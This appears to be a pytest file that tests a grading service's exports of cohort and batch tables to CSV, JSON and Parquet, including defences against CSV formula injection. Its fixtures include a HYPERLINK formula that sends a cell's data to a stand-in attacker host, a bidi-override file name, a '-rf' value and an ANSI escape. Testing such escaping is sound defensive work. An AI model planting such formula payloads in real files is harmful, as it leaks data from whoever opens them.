"""Cohorts and batches as CSV, JSON, JSON lines and Parquet: what was written is what is read, and no cell runs."""

import csv
import io
import json
import os
import sys
from datetime import UTC, datetime

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from grader_service.errors import UsageError
from grader_service.exports.cohorts.cells import csv_cell, moment, text
from grader_service.exports.cohorts.rows import BATCH_COLUMNS, COHORT_COLUMNS, batch_rows, cohort_rows
from grader_service.exports.registry import TABLES, write_table
from grader_service.model.diff import Kind
from grader_service.model.regrade import ItemState
from grader_service.model.verdict_summary import CohortEntry
from grader_service.regrade.filters import rows_of
from tests.regrade.makers import MOMENT, NOISY, a_change, a_check, a_summary, pending, repeated

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def an_entry(submission_id="s:1", outcomes=None, filename="lab.ipynb", **changes):
    """A verdict in force."""
    summary = a_summary(submission_id, outcomes, **changes)
    return CohortEntry(summary, MOMENT - 60.0, MOMENT - 61.5, filename)


ENTRIES = (
    an_entry("s:1", learner=HOSTILE, filename="\u202ecnp.py\n"),
    an_entry("s:2", NOISY, learner=None, cohort=None, ratio=None, rates={}, gpu=None, run_s=None),
    CohortEntry(a_summary("s:3", checks=(a_check("extra"),)), MOMENT, None, "-rf"),
)


def written(tmp_path, form, rows, columns):
    """The bytes of a table."""
    path = tmp_path / f"table.{form}"
    write_table(str(path), form, rows, columns)
    return path.read_bytes()


def cohort(tmp_path, form, entries=ENTRIES):
    return written(tmp_path, form, cohort_rows(entries), COHORT_COLUMNS)


def as_csv(content):
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_csv_of_a_cohort(tmp_path):
    """A row for each submission, a triple of columns for each check, times in UTC, nothing for what is not there."""
    first, second, third = as_csv(cohort(tmp_path, "csv"))
    assert list(first)[: len(COHORT_COLUMNS)] == list(COHORT_COLUMNS)
    assert len(first) == len(COHORT_COLUMNS) + 3 * 5
    assert {name: first[name] for name in ("submission_id", "cohort", "status", "score", "max_score", "mode")} == {
        "submission_id": "s:1",
        "cohort": "2026-fall",
        "status": "passed",
        "score": "100.0",
        "max_score": "100.0",
        "mode": "official",
    }
    assert first["received_at"] == "2026-09-21T14:12:20.000Z"
    assert first["submitted_at"] == "2026-09-21T14:12:18.500Z"
    assert first["graded_at"] == "2026-09-21T14:13:20.000Z"
    assert (first["ratio"], first["ratio_low"], first["ratio_high"]) == ("1.5", "1.4", "1.6")
    assert (first["dali_images_per_s"], first["pytorch_images_per_s"]) == ("1500.0", "1000.0")
    assert first["reference_fair_images_per_s"] == ""
    assert first["benchmark/throughput_ratio/code"] == "throughput_ratio.ok"
    assert first["extra/extra/outcome"] == ""
    assert (second["score"], second["status"], second["learner"], second["ratio"]) == ("", "inconclusive", "", "")
    assert second["benchmark/throughput_ratio/outcome"] == "inconclusive"
    assert (second["benchmark/throughput_ratio/score"], second["baseline/jpeg_dataset/score"]) == ("", "25.0")
    assert (third["extra/extra/outcome"], third["extra/extra/score"], third["submitted_at"]) == ("passed", "25.0", "")


def test_csv_is_that_of_the_rfc(tmp_path):
    """CRLF at every end, commas, quotes only where they are needed; the same each time."""
    content = cohort(tmp_path, "csv")
    assert content.count(b"\r\n") == 4
    assert content.endswith(b"\r\n")
    assert content.startswith(b"submission_id,learner,cohort,lab,filename,")
    assert cohort(tmp_path, "csv") == content


def test_no_cell_of_a_learner_is_a_formula(tmp_path):
    """An apostrophe stands in front of it in CSV, and nowhere else."""
    first, _, third = as_csv(cohort(tmp_path, "csv"))
    assert first["learner"] == f"'{HOSTILE}"
    assert first["filename"] == "\ufffdcnp.py\n"
    assert third["filename"] == "'-rf"
    assert json.loads(cohort(tmp_path, "json"))[0]["learner"] == HOSTILE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'"])
def test_every_start_of_a_formula_is_taken_off(start):
    """Also those of full width, and the apostrophe itself, so that the text can be had back."""
    assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell(f"1{start}") == f"1{start}"


@given(st.text(max_size=20), st.text(max_size=20))
def test_texts_stay_different_and_can_be_had_back(one, other):
    """Whoever takes one apostrophe away from every text that begins with one has the texts as they were."""
    assert csv_cell(one).removeprefix("'") == one or one.startswith("'")
    assert (csv_cell(one) == csv_cell(other)) == (one == other)
    assert not csv_cell(one).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [(None, ""), (True, "true"), (False, "false"), (0, "0"), (-1.5, "-1.5"), (1e-07, "1e-07"), (25.0, "25.0")],
    ids=str,
)
def test_numbers_are_written_as_they_are(cell, shown):
    """They are ours: a minus in front is a minus."""
    assert csv_cell(cell) == shown


def test_json_forms_hold_the_rows(tmp_path):
    """One array, or one object a line; null for what is not known, no key for a check that is not there."""
    rows = list(cohort_rows(ENTRIES))
    assert json.loads(cohort(tmp_path, "json")) == rows
    lines = cohort(tmp_path, "jsonl")
    assert [json.loads(line) for line in lines.splitlines()] == rows
    assert rows[1]["score"] is None
    assert "extra/extra/outcome" not in rows[0]
    assert lines.isascii()


def test_parquet_has_types(tmp_path):
    """Numbers are numbers, moments timestamps in UTC; texts are as they were; all checks are columns of all rows."""
    table = parquet.read_table(pa.BufferReader(cohort(tmp_path, "parquet")))
    assert table.schema.field("score").type == pa.float64()
    assert table.schema.field("received_at").type == pa.timestamp("ms", tz="UTC")
    assert table.schema.field("extra/extra/score").type == pa.float64()
    rows = table.to_pylist()
    assert [row["submission_id"] for row in rows] == ["s:1", "s:2", "s:3"]
    assert rows[0]["learner"] == HOSTILE
    assert rows[0]["submitted_at"] == datetime.fromtimestamp(MOMENT - 61.5, UTC)
    assert (rows[1]["score"], rows[1]["extra/extra/outcome"], rows[2]["extra/extra/outcome"]) == (None, None, "passed")


def test_rows_of_a_batch(tmp_path):
    """Both verdicts side by side; the new columns are empty where there is no new verdict, and so they are in CSV."""
    changes = [
        a_change("s:1", {}, NOISY, newer=2),
        pending("s:2", ItemState.NEEDS_ATTENTION, error="the\x1b[31m pod died"),
        repeated("s:3", {}, NOISY, {}),
    ]
    rows = list(batch_rows(rows_of(changes)))
    first, second, third = rows
    assert {name: first[name] for name in ("submission_id", "kind", "level", "state", "newer", "repetitions")} == {
        "submission_id": "s:1",
        "kind": Kind.NEWLY_UNDECIDED.value,
        "level": "judge",
        "state": "done",
        "newer": 2,
        "repetitions": 1,
    }
    assert (first["old_status"], first["new_status"]) == ("passed", "inconclusive")
    assert (first["old_score"], first["new_score"]) == (100.0, None)
    assert (first["old_verdict_id"], first["new_verdict_id"]) == ("v:s:1", "w:s:1")
    name = "benchmark/throughput_ratio"
    assert (first[f"{name}/old_score"], first[f"{name}/new_score"]) == (25.0, None)
    assert (first[f"{name}/old_code"], first[f"{name}/new_code"]) == ("throughput_ratio.ok", "throughput_ratio.noisy")
    assert (second["kind"], second["error"], second["repetitions"]) == ("needs_attention", "the\ufffd[31m pod died", 0)
    assert "new_status" not in second
    assert third["repetitions"] == 3
    table = as_csv(written(tmp_path, "csv", iter(rows), BATCH_COLUMNS))
    assert [row["new_status"] for row in table] == ["inconclusive", "", "passed"]
    arrow = written(tmp_path, "parquet", iter(rows), BATCH_COLUMNS)
    schema = parquet.read_schema(pa.BufferReader(arrow))
    assert schema.field("newer").type == pa.int64()
    assert schema.field(f"{name}/new_score").type == pa.float64()


@pytest.mark.parametrize("form", TABLES)
def test_nobody_is_a_table_too(form, tmp_path):
    """With its columns where the format has them."""
    content = cohort(tmp_path, form, ())
    if form == "csv":
        assert content == ",".join(COHORT_COLUMNS).encode() + b"\r\n"
    elif form == "parquet":
        assert parquet.read_schema(pa.BufferReader(content)).names == list(COHORT_COLUMNS)
    else:
        assert content == (b"[]\n" if form == "json" else b"")


TEXTS = st.text(max_size=30).map(text)
FLOATS = st.floats(allow_nan=False, allow_infinity=False)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.fixed_dictionaries(
            {"submission_id": TEXTS}, optional={"a/b/code": st.none() | TEXTS, "a/b/score": st.none() | FLOATS}
        ),
        max_size=8,
    )
)
def test_any_text_and_number_comes_back(tmp_path, rows):
    """From each format, whatever learners write; CSV has one apostrophe more where it needs one."""
    fixed = {"submission_id": "text"}
    names = dict.fromkeys([*fixed, *(name for row in rows for name in row)])
    assert json.loads(written(tmp_path, "json", iter(rows), fixed)) == rows
    lines = written(tmp_path, "jsonl", iter(rows), fixed).decode()
    assert [json.loads(line) for line in lines.splitlines()] == rows
    arrow = written(tmp_path, "parquet", iter(rows), fixed)
    table = parquet.read_table(pa.BufferReader(arrow))
    assert table.to_pylist() == [{name: row.get(name) for name in names} for row in rows]
    found = as_csv(written(tmp_path, "csv", iter(rows), fixed))
    assert found == [{name: csv_cell(row.get(name)) for name in names} for row in rows]


def test_parquet_without_its_library_says_what_to_install(tmp_path, monkeypatch):
    """Before anything is read or written."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    target = tmp_path / "cohort.parquet"
    with pytest.raises(UsageError, match=r'pip install "grader-service\[parquet\]"'):
        write_table(str(target), "parquet", iter(()), COHORT_COLUMNS)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", TABLES)
def test_a_failure_leaves_what_was_there(form, tmp_path):
    """A table takes its name when it is whole."""

    def broken():
        yield {"submission_id": "s:1"}
        raise UsageError("the database is gone")

    target = tmp_path / "table"
    target.write_text("from before")
    with pytest.raises(UsageError, match="gone"):
        write_table(str(target), form, broken(), COHORT_COLUMNS)
    assert [path.read_text() for path in tmp_path.iterdir()] == ["from before"]


def test_a_link_stays_one_and_a_pipe_is_written_to(tmp_path):
    """What the link names is replaced; a pipe gets the rows, and is one afterwards."""
    target, link = tmp_path / "real.jsonl", tmp_path / "link.jsonl"
    target.write_text("from before")
    link.symlink_to(target)
    assert write_table(str(link), "jsonl", cohort_rows(ENTRIES), COHORT_COLUMNS) == 3
    assert link.is_symlink()
    assert len(target.read_text().splitlines()) == 3
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reading = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    assert write_table(str(pipe), "jsonl", cohort_rows(ENTRIES), COHORT_COLUMNS) == 3
    assert pipe.is_fifo()
    assert os.read(reading, 1 << 16) == target.read_bytes()
    os.close(reading)


@pytest.mark.parametrize("target", ["absent/table.csv", "."], ids=["no_such_folder", "a_folder"])
def test_a_place_that_cannot_be_written_is_told(target, tmp_path):
    """In one sentence that says what to do."""
    with pytest.raises(UsageError, match="cannot be written"):
        write_table(str(tmp_path / target), "csv", iter(()), COHORT_COLUMNS)


@pytest.mark.parametrize("seconds", [None, 1e18, -1e18, 253402300800.0], ids=str)
def test_moments_beyond_every_calendar_are_left_out(seconds):
    """No row is lost for one."""
    assert moment(seconds) is None
